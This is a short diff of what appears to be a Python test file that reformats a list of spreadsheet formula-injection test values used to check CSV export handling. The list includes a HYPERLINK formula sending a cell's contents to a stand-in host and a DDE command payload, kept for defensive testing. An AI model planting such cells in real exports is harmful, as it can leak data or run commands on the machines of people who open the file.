@@ -34,7 +34,14 @@ def address_row(wijk: str = "Oost", name: str = "Jan Jansen") -> str:
 # -- item 4: formula injection ------------------------------------------------------------
 
 
-HOSTILE_CELLS = ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1"]  # fmt: skip
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://x.example/?"&A1;"klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1",
+]
 
 
 def _csv_cells(data: bytes) -> list[list[str]]:
